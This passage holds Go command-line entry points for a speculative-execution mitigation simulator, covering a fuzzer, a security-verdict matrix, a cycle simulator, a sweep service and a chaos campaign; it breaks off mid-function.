	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"specasan/internal/core"
	"specasan/internal/fuzzer"
	"specasan/internal/scenario"
	"specasan/internal/store"
)

func fail(format string, args ...interface{}) {
	fmt.Fprintf(os.Stderr, "specasan-fuzz: "+format+"\n", args...)
	os.Exit(1)
}

func main() {
	scen := flag.String("scenario", "",
		"scenario preset name or file; explicitly-set flags override its fields (default: the fuzz-smoke preset, every flag applies)")
	seed := flag.Uint64("seed", 1, "generator seed (candidate i is a pure function of seed and i)")
	n := flag.Int("n", 64, "candidate count (0 = unbounded, requires -budget)")
	budget := flag.Duration("budget", 0, "wall-clock bound; with -n 0, whole batches run until it expires")
	workers := flag.Int("workers", 0, "evaluation pool size (0 = GOMAXPROCS, 1 = serial)")
	parallelCores := flag.Int("parallel-cores", 0,
		"intra-machine core stepping on evaluation machines (0 = auto, 1 = serial, >= 2 = goroutine per core); corpus bytes are identical either way")
	out := flag.String("out", "results", "output root: PoCs under <out>/pocs, divergences under <out>/differential")
	mitsFlag := flag.String("mits", "", "comma-separated mitigation columns (default: every registered policy)")
	storeDir := flag.String("store", "", "result-store directory: cached candidate evaluations make reruns and resumes cheap")
	noMinimise := flag.Bool("no-minimise", false, "emit finds unminimised")
	verbose := flag.Bool("v", false, "log batch progress and each emitted PoC")
	flag.Parse()
	if flag.NArg() > 0 {
		fail("unexpected arguments %v", flag.Args())
	}

	// Scenario layering, same contract as the other CLIs: without -scenario
	// the fuzz-smoke preset is the base and every flag (defaults included)
	// applies; with -scenario only explicitly-typed flags override it.
	explicit := map[string]bool{}
	flag.Visit(func(f *flag.Flag) { explicit[f.Name] = true })
	overrides := func(name string) bool { return *scen == "" || explicit[name] }

	s, _ := scenario.Preset(scenario.PresetFuzzSmoke)
	if *scen != "" {
		var err error
		if s, err = scenario.Load(*scen); err != nil {
			fail("%v", err)
		}
		if s.Fuzz == nil {
			smoke, _ := scenario.Preset(scenario.PresetFuzzSmoke)
			s.Fuzz = smoke.Fuzz
		}
	}
	if overrides("seed") {
		s.Fuzz.Seed = *seed
	}
	if overrides("n") {
		s.Fuzz.Candidates = *n
	}
	if overrides("budget") {
		s.Fuzz.BudgetSeconds = int(budget.Seconds())
	}
	if overrides("workers") {
		s.Run.Workers = *workers
	}
	if overrides("parallel-cores") {
		s.Run.ParallelCores = *parallelCores
	}
	if overrides("mits") && *mitsFlag != "" {
		s.Mitigations = splitList(*mitsFlag)
	}
	if err := s.Validate(); err != nil {
		fail("%v", err)
	}
	if s.Fuzz.Candidates <= 0 && s.Fuzz.BudgetSeconds <= 0 {
		fail("nothing to do: set -n or -budget")
	}

	var mits []core.Mitigation
	if *mitsFlag != "" || *scen != "" {
		var err error
		if mits, err = s.MitigationList(); err != nil {
			fail("%v", err)
		}
	} // else nil: Run defaults to the full registry

	opts := fuzzer.Options{
		Seed:          s.Fuzz.Seed,
		N:             s.Fuzz.Candidates,
		Budget:        time.Duration(s.Fuzz.BudgetSeconds) * time.Second,
		Workers:       s.Run.Workers,
		ParallelCores: s.Run.ParallelCores,
		OutDir:        *out,
		Mitigations:   mits,
		SkipMinimise:  *noMinimise,
	}
	if *verbose {
		opts.Log = os.Stderr
	}
	if *storeDir != "" {
		st, err := store.Open(*storeDir)
		if err != nil {
			fail("%v", err)
		}
		if st.ReadOnly() {
			fmt.Fprintf(os.Stderr, "specasan-fuzz: store %s is read-only: serving cached evaluations, not persisting new ones\n", *storeDir)
		}
		opts.Store = st
	}

	rep, err := fuzzer.Run(opts)
	if err != nil {
		fail("%v", err)
	}
	printReport(os.Stdout, rep)

	switch {
	case len(rep.Unminimisable) > 0:
		os.Exit(2)
	case len(rep.Differential) > 0:
		os.Exit(3)
	}
}

func printReport(w io.Writer, rep *fuzzer.Report) {
	fmt.Fprintf(w, "fuzz: seed %d: %d candidates (%d valid, %d cached), %d PoCs (%d counterexamples, %d known-gap)\n",
		rep.Seed, rep.Candidates, rep.Valid, rep.CacheHits,
		len(rep.PoCs), rep.Counterexamples, rep.KnownGaps)
	for _, p := range rep.PoCs {
		fmt.Fprintf(w, "  poc %s\n", p)
	}
	for _, u := range rep.Unminimisable {
		fmt.Fprintf(w, "UNMINIMISABLE %s\n", u)
	}
	for _, d := range rep.Differential {
		fmt.Fprintf(w, "DIVERGENCE %s\n", d)
	}
}

func splitList(csv string) []string {
	var out []string
	for _, p := range strings.Split(csv, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}
