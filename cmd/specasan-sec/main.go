// specasan-sec runs the Table 1 security evaluation: every attack PoC under
// every mitigation column, printing the full/partial/none verdict matrix,
// and optionally the per-variant leak details.
//
// Usage:
//
//	specasan-sec              # the Table 1 matrix
//	specasan-sec -detail      # per-variant outcomes
//	specasan-sec -attack RIDL # a single row
package main

import (
	"flag"
	"fmt"
	"os"

	"specasan/internal/attacks"
	"specasan/internal/harness"
)

func main() {
	detail := flag.Bool("detail", false, "print per-variant outcomes")
	one := flag.String("attack", "", "evaluate a single attack by name")
	flag.Parse()

	if !*detail && *one == "" {
		if err := harness.SecurityMatrix(os.Stdout); err != nil {
			fatal(err)
		}
		return
	}

	for _, a := range attacks.All() {
		if *one != "" && a.Name != *one {
			continue
		}
		fmt.Printf("%s [%s]\n", a.Name, a.Class)
		for _, mit := range attacks.TableMitigations() {
			verdict, outs, err := a.Evaluate(mit)
			if err != nil {
				fatal(err)
			}
			fmt.Printf("  %-13s %s (%s)\n", mit, verdict, verdict.Word())
			if *detail {
				for _, o := range outs {
					fmt.Printf("    %-30s leaked=%-5v secretReads=%-3d events=%v\n",
						o.Variant, o.Leaked, o.SecretReads, o.Events)
				}
			}
		}
		fmt.Println()
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "specasan-sec:", err)
	os.Exit(1)
}
