// specasan-sim runs one benchmark kernel (or an assembly file) on the
// simulated machine under a chosen mitigation and prints pipeline statistics.
//
// Usage:
//
//	specasan-sim -bench 505.mcf_r -mitigation SpecASan -scale 0.5
//	specasan-sim -file prog.s -mitigation Unsafe
//	specasan-sim -scenario examples/scenarios/dom-vs-specasan.json
//	specasan-sim -config          # print the Table 2 configuration
//
// -scenario loads a preset name or scenario file as the base configuration
// (machine, mitigation, workload, run options); explicitly-set flags
// override individual fields. A scenario with several workloads or
// mitigations runs the first of each (sim is a single-run tool; sweeps are
// specasan-bench's job). The effective scenario's canonical hash is printed
// on stderr and stamped into -metrics-out records.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/harness"
	"specasan/internal/isa"
	"specasan/internal/obs"
	"specasan/internal/prof"
	"specasan/internal/scenario"
	"specasan/internal/store"
	"specasan/internal/workloads"
)

func main() {
	scen := flag.String("scenario", "",
		"scenario preset name or file; explicitly-set flags override its fields")
	bench := flag.String("bench", "", "benchmark kernel name (e.g. 505.mcf_r, canneal)")
	file := flag.String("file", "", "assembly file to run instead of a kernel")
	mitName := flag.String("mitigation", "Unsafe", "a registered policy name (specasan-sim -mitigations lists them)")
	listMits := flag.Bool("mitigations", false, "list the registered mitigation policies and exit")
	scale := flag.Float64("scale", 1.0, "kernel iteration scale")
	maxCycles := flag.Uint64("max-cycles", 500_000_000, "cycle budget")
	showConfig := flag.Bool("config", false, "print the simulated CPU configuration (Table 2) and exit")
	trace := flag.Bool("trace", false, "record a cycle-accurate event trace and write it as Chrome trace-event JSON")
	traceOut := flag.String("trace-out", "trace.json", "where -trace writes its Chrome trace (load in Perfetto / chrome://tracing)")
	metricsOut := flag.String("metrics-out", "", "write a pipeline-metrics record (JSONL) to this file")
	traceText := flag.Bool("trace-text", false, "print the textual pipeline trace to stdout")
	pipeview := flag.Int("pipeview", 0, "render a timeline of the last N instructions")
	cpuProfile := flag.String("cpuprofile", "", "write a CPU profile to this file")
	memProfile := flag.String("memprofile", "", "write a heap profile to this file")
	skipIdle := flag.Bool("skip-idle", true, "event-driven idle-cycle skipping (exactness-preserving; off walks every cycle)")
	parallelCores := flag.Int("parallel-cores", 0,
		"intra-machine stepping: 0 = auto (one goroutine per simulated core on multi-core machines when GOMAXPROCS > 1), 1 = serial core walk, >= 2 = force parallel; bit-identical results either way")
	fastForward := flag.Uint64("fast-forward", 0,
		"fast-forward this many instructions functionally before detailed simulation (0 = fully detailed; committed counts and output stay exact, cycles become an estimate)")
	sampleWindows := flag.Int("sample-windows", 0,
		"simulate this many evenly-spaced detailed windows and extrapolate cycles from their pooled IPC (requires -sample-window-insts; <=1 = tail mode / off)")
	sampleWindowInsts := flag.Uint64("sample-window-insts", 0,
		"instructions per detailed window for -sample-windows")
	warmupCycles := flag.Uint64("warmup-cycles", 0,
		"detailed warmup cycles excluded before each sampled measurement (0 = default 2000)")
	traceRecord := flag.Bool("trace-record", false,
		"record the kernel's build as a replayable trace in -store if one is not stored yet (the run itself still live-decodes unless -trace-replay)")
	traceReplay := flag.Bool("trace-replay", false,
		"fetch through the recorded trace in -store instead of assembling (bit-identical results; errors on a missing trace unless -trace-record is also set)")
	storeDir := flag.String("store", "",
		"result-store directory: serve this run from the store when a verified entry exists, persist it otherwise (named kernels without trace/pipeview/metrics instrumentation only)")
	storeMaxBytes := flag.Int64("store-max-bytes", 0,
		"prune the -store directory to at most this many entry bytes on open, oldest entries first (0 = unbounded)")
	flag.Parse()

	if *showConfig {
		printConfig()
		return
	}
	if *listMits {
		for _, m := range core.RegisteredMitigations() {
			d := m.Descriptor()
			fmt.Printf("%-14s %s\n", d.Name, d.Class)
		}
		return
	}

	// Scenario layering: without -scenario the base is the default (table2)
	// scenario and every flag (defaults included) applies over it —
	// reproducing the pre-scenario CLI exactly; with -scenario only flags
	// the user actually typed override the loaded scenario.
	explicit := map[string]bool{}
	flag.Visit(func(f *flag.Flag) { explicit[f.Name] = true })
	overrides := func(name string) bool { return *scen == "" || explicit[name] }

	s := scenario.Default()
	if *scen != "" {
		var err error
		if s, err = scenario.Load(*scen); err != nil {
			fatal(err)
		}
	} else if *bench == "" && *file == "" {
		fatal(fmt.Errorf("need -bench, -file, or -scenario (or -config)"))
	}
	if overrides("bench") && *bench != "" {
		s.Workloads = []string{*bench}
	}
	if overrides("file") && *file != "" {
		s.Workloads = []string{scenario.FileWorkloadPrefix + *file}
	}
	if overrides("mitigation") {
		s.Mitigations = []string{*mitName}
	}
	if overrides("scale") {
		s.Run.Scale = *scale
	}
	if overrides("max-cycles") {
		s.Run.MaxCycles = *maxCycles
	}
	if overrides("skip-idle") {
		s.Run.SkipIdle = *skipIdle
	}
	if overrides("parallel-cores") {
		s.Run.ParallelCores = *parallelCores
	}
	if overrides("fast-forward") {
		s.Run.FastForwardInsts = *fastForward
	}
	if overrides("sample-windows") {
		s.Run.SampleWindows = *sampleWindows
	}
	if overrides("sample-window-insts") {
		s.Run.SampleWindowInsts = *sampleWindowInsts
	}
	if overrides("warmup-cycles") {
		s.Run.WarmupCycles = *warmupCycles
	}
	if overrides("trace-record") {
		s.Run.TraceRecord = *traceRecord
	}
	if overrides("trace-replay") {
		s.Run.TraceReplay = *traceReplay
	}
	if err := s.Validate(); err != nil {
		fatal(err)
	}
	if (s.Run.TraceRecord || s.Run.TraceReplay) && *storeDir == "" {
		fatal(fmt.Errorf("trace record/replay needs -store (traces live in the artifact store)"))
	}
	hash := s.Hash()
	fmt.Fprintf(os.Stderr, "specasan-sim: scenario %s (hash %s)\n", s.Name, hash)

	mits, err := s.MitigationList()
	if err != nil {
		fatal(err)
	}
	mit := mits[0]

	// The result store serves plain named-kernel runs. File workloads are
	// not content-addressed (the scenario hash does not cover the file's
	// bytes), and instrumented runs must actually simulate — both fall
	// through to the ordinary path, uncached. Without -store the legacy
	// path runs untouched.
	if *storeDir != "" {
		instrumented := *trace || *traceText || *pipeview > 0 || *metricsOut != ""
		isFile := strings.HasPrefix(s.Workloads[0], scenario.FileWorkloadPrefix)
		if instrumented || isFile {
			fmt.Fprintln(os.Stderr, "specasan-sim: -store ignored (file workloads and instrumented runs always simulate, uncached)")
		} else if err := runStored(s, mit, *storeDir, *storeMaxBytes); err != nil {
			fatal(err)
		} else {
			return
		}
	}

	stopProf, err := prof.Start(*cpuProfile, *memProfile)
	if err != nil {
		fatal(err)
	}
	defer func() {
		if err := stopProf(); err != nil {
			fmt.Fprintln(os.Stderr, "specasan-sim:", err)
		}
	}()

	// Sampling changes what "cycles" means (a detailed-window extrapolation),
	// so it routes through the harness instead of the plain machine loop.
	// Cycle-exact instrumentation of the whole run is incompatible by
	// definition: most cycles are never simulated.
	if s.Run.Sampling() {
		if *trace || *traceText || *pipeview > 0 {
			fatal(fmt.Errorf("-trace/-trace-text/-pipeview need a fully detailed run; drop -fast-forward/-sample-windows"))
		}
		if err := runSampled(s, mit, *metricsOut, *storeDir, *storeMaxBytes); err != nil {
			fatal(err)
		}
		return
	}

	var prog *asm.Program
	cfg := s.Machine
	threads := 1
	workload := s.Workloads[0]
	if path, isFile := strings.CutPrefix(workload, scenario.FileWorkloadPrefix); isFile {
		var src []byte
		src, err = os.ReadFile(path)
		if err == nil {
			prog, err = asm.Assemble(string(src))
		}
	} else {
		spec := workloads.ByName(workload)
		if spec == nil {
			fatal(fmt.Errorf("unknown benchmark %q (see internal/workloads)", workload))
		}
		if s.Run.TraceRecord || s.Run.TraceReplay {
			// The hand-built instrumented path resolves traces itself: a
			// trace-backed Build reconstructs the recorded program, so the
			// machine below fetches exactly the replayed stream.
			if spec, err = traceSpec(s, spec, mit, *storeDir, *storeMaxBytes); err != nil {
				fatal(err)
			}
		}
		threads = spec.Threads
		prog, err = spec.Build(mit.MTEEnabled(), s.Run.Scale)
	}
	if err != nil {
		fatal(err)
	}

	cfg.Cores = threads
	m, err := cpu.NewMachine(cfg, mit, prog)
	if err != nil {
		fatal(err)
	}
	for i := 0; i < threads; i++ {
		m.Core(i).SetReg(isa.X0, uint64(i))
	}
	m.SkipIdle = s.Run.SkipIdle
	m.ParallelCores = s.Run.ParallelCores
	if *traceText {
		m.Core(0).TraceFn = func(f string, a ...any) { fmt.Printf(f+"\n", a...) }
	}
	var tr *obs.Tracer
	if *trace {
		tr = obs.NewTracer(threads, 0)
	}
	var met *obs.Metrics
	if *metricsOut != "" {
		met = obs.NewMetrics(threads)
	}
	if tr != nil || met != nil {
		m.AttachObs(tr, met)
	}
	var rec *cpu.Recorder
	if *pipeview > 0 {
		rec = cpu.NewRecorder(*pipeview * 4)
		m.Core(0).Rec = rec
	}
	res := m.Run(s.Run.MaxCycles)
	if tr != nil {
		if err := writeTrace(*traceOut, tr); err != nil {
			fatal(err)
		}
		fmt.Printf("trace        %s (%d events, %d dropped)\n", *traceOut, tr.Recorded(), tr.Dropped())
	}
	if met != nil {
		name := strings.TrimPrefix(workload, scenario.FileWorkloadPrefix)
		rec := met.Record(name, mit.String(), res.Cycles, res.Committed)
		rec.ScenarioHash = hash
		if err := writeMetrics(*metricsOut, rec); err != nil {
			fatal(err)
		}
		fmt.Printf("metrics      %s\n", *metricsOut)
	}
	if rec != nil {
		defer fmt.Print(rec.Render(*pipeview))
	}
	fmt.Printf("mitigation   %s\n", mit)
	fmt.Printf("cycles       %d\n", res.Cycles)
	fmt.Printf("committed    %d\n", res.Committed)
	fmt.Printf("ipc          %.3f\n", res.IPC())
	fmt.Printf("timed-out    %v\n", res.TimedOut)
	if cores := res.TimedOutCores(); len(cores) > 0 {
		fmt.Printf("stuck-cores  %v\n", cores)
	}
	fmt.Printf("faulted      %v\n", res.Faulted)
	if out := m.Core(0).Output; len(out) > 0 {
		fmt.Printf("output       %q\n", out)
	}
	fmt.Println("\ncounters:")
	fmt.Print(harness.FormatStats(res.Stats))
	if res.Err != nil {
		fmt.Fprintf(os.Stderr, "\nspecasan-sim: %v\npipeline snapshot:\n%s", res.Err, res.Err.Snapshot)
		stopProf() // os.Exit skips the deferred flush
		os.Exit(1)
	}
}

// runSampled runs one cell in fast-forward sampling mode through the
// harness: committed counts and output are exact, cycles are an
// IPC-extrapolated estimate from the detailed windows.
func runSampled(s *scenario.Scenario, mit core.Mitigation, metricsOut, storeDir string, storeMaxBytes int64) error {
	workload := s.Workloads[0]
	var spec *workloads.Spec
	if path, isFile := strings.CutPrefix(workload, scenario.FileWorkloadPrefix); isFile {
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		spec = &workloads.Spec{Name: path, Threads: 1, Source: string(src)}
	} else {
		spec = workloads.ByName(workload)
		if spec == nil {
			return fmt.Errorf("unknown benchmark %q (see internal/workloads)", workload)
		}
	}
	opt := harness.OptionsFromScenario(s)
	opt.Log = os.Stderr
	if s.Run.TraceRecord || s.Run.TraceReplay {
		st, err := openStore(storeDir, storeMaxBytes)
		if err != nil {
			return err
		}
		opt.Artifacts = st
	}
	var mf *os.File
	if metricsOut != "" {
		var err error
		if mf, err = os.Create(metricsOut); err != nil {
			return err
		}
		opt.Metrics = mf
	}
	r, err := harness.RunBenchmark(spec, mit, opt)
	if mf != nil {
		if cerr := mf.Close(); err == nil {
			err = cerr
		}
	}
	if err != nil {
		return err
	}
	if mf != nil {
		fmt.Printf("metrics      %s\n", metricsOut)
	}
	fmt.Printf("mitigation   %s\n", mit)
	fmt.Printf("cycles       %d\n", r.Cycles)
	fmt.Printf("committed    %d\n", r.Committed)
	fmt.Printf("ipc          %.3f\n", float64(r.Committed)/float64(r.Cycles))
	if sp := r.Sampled; sp != nil {
		fmt.Printf("sampled      %d window(s): %d insts functional, %d detailed; cycles are an estimate\n",
			sp.Windows, sp.FunctionalInsts, sp.DetailedInsts)
	} else {
		fmt.Printf("sampled      no (run too short or multi-threaded; fully detailed)\n")
	}
	if len(r.Output) > 0 {
		fmt.Printf("output       %q\n", r.Output)
	}
	fmt.Println("\ncounters:")
	fmt.Print(harness.FormatStats(r.Stats))
	return nil
}

// runStored runs (or serves) one named-kernel cell through the result
// store: a verified entry for (result hash, bench, mitigation) answers
// without simulating; a cold run simulates and persists. The printed block
// matches the ordinary path (FormatStats sorts counters, so cached and cold
// output are identical).
func runStored(s *scenario.Scenario, mit core.Mitigation, dir string, maxBytes int64) error {
	st, err := openStore(dir, maxBytes)
	if err != nil {
		return err
	}
	spec := workloads.ByName(s.Workloads[0])
	if spec == nil {
		return fmt.Errorf("unknown benchmark %q (see internal/workloads)", s.Workloads[0])
	}
	opt := harness.OptionsFromScenario(s)
	opt.Store = harness.DiskCellStore{S: st}
	opt.Artifacts = st
	r, cached, err := harness.RunCell(spec, mit, opt)
	if err != nil {
		return err
	}
	fmt.Printf("mitigation   %s\n", mit)
	fmt.Printf("cycles       %d\n", r.Cycles)
	fmt.Printf("committed    %d\n", r.Committed)
	fmt.Printf("ipc          %.3f\n", float64(r.Committed)/float64(r.Cycles))
	fmt.Printf("timed-out    false\n")
	fmt.Printf("faulted      false\n")
	if len(r.Output) > 0 {
		fmt.Printf("output       %q\n", r.Output)
	}
	fmt.Printf("cached       %v\n", cached)
	fmt.Println("\ncounters:")
	fmt.Print(harness.FormatStats(r.Stats))
	return nil
}

// openStore opens the result/artifact store and applies -store-max-bytes
// pruning, warning on stderr about read-only stores and prune activity.
func openStore(dir string, maxBytes int64) (*store.Store, error) {
	st, err := store.Open(dir)
	if err != nil {
		return nil, err
	}
	if st.ReadOnly() {
		fmt.Fprintf(os.Stderr, "specasan-sim: store %s is read-only: serving cached results, not persisting new ones\n", dir)
	}
	if removed, freed, err := st.Prune(maxBytes); err != nil {
		fmt.Fprintln(os.Stderr, "specasan-sim:", err)
	} else if removed > 0 {
		fmt.Fprintf(os.Stderr, "specasan-sim: store pruned %d entries (%d bytes) to fit -store-max-bytes=%d\n",
			removed, freed, maxBytes)
	}
	return st, nil
}

// traceSpec applies the scenario's trace knobs to a named-kernel spec for
// the hand-built machine path: it opens the artifact store and records or
// replays through harness.ResolveTrace, returning a trace-backed copy of
// the spec when replaying.
func traceSpec(s *scenario.Scenario, spec *workloads.Spec, mit core.Mitigation, dir string, maxBytes int64) (*workloads.Spec, error) {
	st, err := openStore(dir, maxBytes)
	if err != nil {
		return nil, err
	}
	opt := harness.OptionsFromScenario(s)
	opt.Artifacts = st
	opt.Verbose = true
	opt.Log = os.Stderr
	return harness.ResolveTrace(spec, mit, opt)
}

func printConfig() {
	c := core.DefaultConfig()
	fmt.Println("Table 2: configuration of the simulated CPU")
	fmt.Printf("  CPU                 ARM Cortex A76-class out-of-order core\n")
	fmt.Printf("  Issue/Commit        %d-way issue, %d micro-ops/cycle commit\n", c.IssueWidth, c.CommitWidth)
	fmt.Printf("  IQ/ROB              %d-entry Issue Queue, %d-entry Reorder Buffer\n", c.IQEntries, c.ROBEntries)
	fmt.Printf("  LDQ/STQ             %d-entry each\n", c.LQEntries)
	fmt.Printf("  L1 I-Cache          %d KB, %d-way, 64B line, %d cycle hit\n", c.L1ISizeKB, c.L1IWays, c.L1ILatency)
	fmt.Printf("  L1 D-Cache          %d KB, %d-way, 64B line, %d cycle hit, tagged\n", c.L1DSizeKB, c.L1DWays, c.L1DLatency)
	fmt.Printf("  L2 Cache            %d KB, %d-way, 64B line, %d cycle hit, tagged\n", c.L2SizeKB, c.L2Ways, c.L2Latency)
	fmt.Printf("  Line Fill Buffer    %d-entry (cache line), 2 cycle hit, tagged\n", c.LFBEntries)
	fmt.Printf("  DRAM                %d cycle latency, %d-cycle bursts (+%d tag)\n", c.DRAMLatency, c.DRAMBurst, c.TagBurst)
}

// writeTrace dumps the recorded event trace as Chrome trace-event JSON.
func writeTrace(path string, tr *obs.Tracer) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := obs.WriteChromeTrace(f, tr); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// writeMetrics dumps one JSONL metrics record.
func writeMetrics(path string, rec obs.MetricsRecord) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := obs.WriteMetricsLine(f, rec); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "specasan-sim:", err)
	os.Exit(1)
}
