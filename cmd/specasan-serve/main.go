// specasan-serve is the sweep service: an HTTP/JSON daemon that accepts
// scenario documents (the same documents the CLIs take via -scenario),
// expands them into sweep or chaos-campaign cells, runs them on a bounded
// worker pool, and persists every completed cell in the crash-safe
// content-addressed result store. Resubmitting a scenario whose results are
// already stored answers from the store with a byte-identical result
// document.
//
//	specasan-serve -addr :8077 -store /var/lib/specasan/results
//
// Endpoints:
//
//	POST /v1/sweep        submit a scenario document; 202 with a job id
//	POST /v1/sweep?wait=1 submit and wait; the body is the result document
//	GET  /v1/jobs/<id>    job state, with the result document once done
//	GET  /healthz         liveness + store health (rw / ro / none)
//	GET  /stats           queue, job/cell counters, latency, store counters
//
// A full queue sheds load with 429 and a Retry-After estimate instead of
// building unbounded backlog. SIGTERM/SIGINT drain: no new jobs, queued
// cells cancel, in-flight cells finish and persist, then the process exits.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"specasan/internal/serve"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8077", "listen address")
	storeDir := flag.String("store", "", "result-store directory (empty: run without a store)")
	storeMaxBytes := flag.Int64("store-max-bytes", 0,
		"prune the store to at most this many entry bytes on startup, oldest entries first (0 = unbounded)")
	queue := flag.Int("queue", 256, "cell queue budget: a job is admitted only if all its cells fit")
	workers := flag.Int("workers", 0, "cell worker pool size (0 = GOMAXPROCS)")
	jobTimeout := flag.Duration("job-timeout", 10*time.Minute, "per-job wall deadline (queued cells cancel when it expires)")
	cellTimeout := flag.Duration("cell-timeout", 5*time.Minute, "per-cell wall deadline")
	traceRecord := flag.Bool("trace-record", false,
		"record each perf cell's workload build as a replayable trace in -store if one is not stored yet (OR-ed with each scenario's run.trace_record)")
	traceReplay := flag.Bool("trace-replay", false,
		"fetch perf cells through recorded traces instead of assembling; bit-identical results (OR-ed with each scenario's run.trace_replay)")
	flag.Parse()

	s, err := serve.New(serve.Config{
		StoreDir:      *storeDir,
		StoreMaxBytes: *storeMaxBytes,
		QueueDepth:    *queue,
		Workers:       *workers,
		JobTimeout:    *jobTimeout,
		CellTimeout:   *cellTimeout,
		TraceRecord:   *traceRecord,
		TraceReplay:   *traceReplay,
		Log:           os.Stderr,
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "specasan-serve: %v\n", err)
		os.Exit(1)
	}
	if err := s.ListenAndServe(*addr, nil); err != nil {
		fmt.Fprintf(os.Stderr, "specasan-serve: %v\n", err)
		os.Exit(1)
	}
}
