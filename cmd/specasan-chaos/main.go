// specasan-chaos runs the fault-injection campaign: a grid of chaos-
// perturbed workload runs, each checked bit-for-bit against the golden
// interpreter's architectural state, followed by a Table 1 verdict-
// invariance sweep under timing-safe chaos.
//
// The default campaign is 8 seeds x 6 fault kinds (each alone, plus one
// all-kinds-combined column) x 3 workloads under two mitigations, then the
// full 11-attack x 5-mitigation verdict matrix under 2 chaos seeds. Exit
// status 1 means a divergence — a reproducible one: rerun with the printed
// seed.
//
// Grid cells are independent (each run owns its machine and injector), so
// the campaign runs on a bounded worker pool (-workers, default GOMAXPROCS);
// output and exit status are byte-identical to -workers=1.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"specasan/internal/attacks"
	"specasan/internal/chaos"
	"specasan/internal/cpu"
	"specasan/internal/obs"
	"specasan/internal/scenario"
	"specasan/internal/store"
)

func fail(format string, args ...interface{}) {
	fmt.Fprintf(os.Stderr, "specasan-chaos: "+format+"\n", args...)
	os.Exit(1)
}

func main() {
	scen := flag.String("scenario", "",
		"scenario preset name or file; explicitly-set flags override its fields (default: the chaos-smoke preset, every flag applies)")
	seeds := flag.Int("seeds", 8, "number of chaos seeds per grid cell")
	seed0 := flag.Uint64("seed0", 1, "first seed")
	kindsFlag := flag.String("kinds", "", "comma-separated fault kinds (default: every kind)")
	wlFlag := flag.String("workloads", "511.povray_r,505.mcf_r,541.leela_r",
		"comma-separated benchmark names")
	mitsFlag := flag.String("mits", "Unsafe,SpecASan", "comma-separated mitigations for the golden sweep")
	rate := flag.Float64("rate", 0.02, "per-opportunity injection probability")
	maxLat := flag.Uint64("maxlat", 200, "max injected latency (cycles)")
	scale := flag.Float64("scale", 0.02, "kernel iteration scale")
	maxCycles := flag.Uint64("maxcycles", 100_000_000, "cycle budget per run")
	verdicts := flag.Bool("verdicts", true, "also check Table 1 verdict invariance under timing-safe chaos")
	verdictSeeds := flag.Int("verdict-seeds", 2, "chaos seeds for the verdict-invariance sweep")
	workers := flag.Int("workers", 0, "worker pool size (0 = GOMAXPROCS, 1 = serial)")
	parallelCores := flag.Int("parallel-cores", 0,
		"intra-machine core stepping (0 = auto, 1 = serial, >= 2 = goroutine per core); injected cells fall back to serial regardless (the fault driver is a per-cycle hook), results are bit-identical either way")
	traceIdx := flag.Int("trace", -1, "re-run one campaign cell (by index) with event tracing and write a Chrome trace")
	traceOut := flag.String("trace-out", "trace.json", "where -trace writes its Chrome trace-event JSON")
	metricsOut := flag.String("metrics-out", "", "write per-cell metrics records (JSONL, cell order) to this file")
	storeDir := flag.String("store", "",
		"result-store directory: verified cached campaign cells (verdicts included) are served without simulating, cold cells persist (ignored with -metrics-out, which must simulate)")
	storeMaxBytes := flag.Int64("store-max-bytes", 0,
		"prune the -store directory to at most this many entry bytes on open, oldest entries first (0 = unbounded)")
	skipIdle := flag.Bool("skip-idle", true,
		"event-driven idle-cycle skipping; injected runs bypass it regardless (the per-cycle fault driver must see every cycle)")
	verbose := flag.Bool("v", false, "log each run")
	flag.Parse()

	// Scenario layering: without -scenario the base is the chaos-smoke
	// preset and every flag (defaults included) applies over it, preserving
	// the pre-scenario CLI behaviour exactly; with -scenario only the flags
	// the user actually typed override the loaded scenario.
	explicit := map[string]bool{}
	flag.Visit(func(f *flag.Flag) { explicit[f.Name] = true })
	overrides := func(name string) bool { return *scen == "" || explicit[name] }

	s, _ := scenario.Preset(scenario.PresetChaosSmoke)
	if *scen != "" {
		var err error
		if s, err = scenario.Load(*scen); err != nil {
			fail("%v", err)
		}
		if s.Chaos == nil {
			smoke, _ := scenario.Preset(scenario.PresetChaosSmoke)
			s.Chaos = smoke.Chaos
		}
	}
	if overrides("seeds") {
		s.Chaos.Seeds = *seeds
	}
	if overrides("seed0") {
		s.Chaos.Seed0 = *seed0
	}
	if overrides("kinds") {
		s.Chaos.Kinds = splitList(*kindsFlag)
	}
	if overrides("workloads") {
		s.Workloads = splitList(*wlFlag)
	}
	if overrides("mits") {
		s.Mitigations = splitList(*mitsFlag)
	}
	if overrides("rate") {
		s.Chaos.Rate = *rate
	}
	if overrides("maxlat") {
		s.Chaos.MaxLatency = *maxLat
	}
	if overrides("scale") {
		s.Run.Scale = *scale
	}
	if overrides("maxcycles") {
		s.Run.MaxCycles = *maxCycles
	}
	if overrides("verdict-seeds") {
		s.Chaos.VerdictSeeds = *verdictSeeds
	}
	if overrides("workers") {
		s.Run.Workers = *workers
	}
	if overrides("parallel-cores") {
		s.Run.ParallelCores = *parallelCores
	}
	if overrides("skip-idle") {
		s.Run.SkipIdle = *skipIdle
	}
	if err := s.Validate(); err != nil {
		fail("%v", err)
	}
	hash := s.Hash()
	fmt.Fprintf(os.Stderr, "specasan-chaos: scenario %s (hash %s)\n", s.Name, hash)

	specs, err := s.WorkloadSpecs()
	if err != nil {
		fail("%v", err)
	}
	mits, err := s.MitigationList()
	if err != nil {
		fail("%v", err)
	}
	// The shared scenario expansion: same grid (and same store keys) as the
	// sweep service, workload-major, seeds innermost.
	cells, err := s.CampaignCells()
	if err != nil {
		fail("%v", err)
	}
	kindSets := 0
	if n := len(specs) * len(mits) * s.Chaos.Seeds; n > 0 {
		kindSets = len(cells) / n
	}

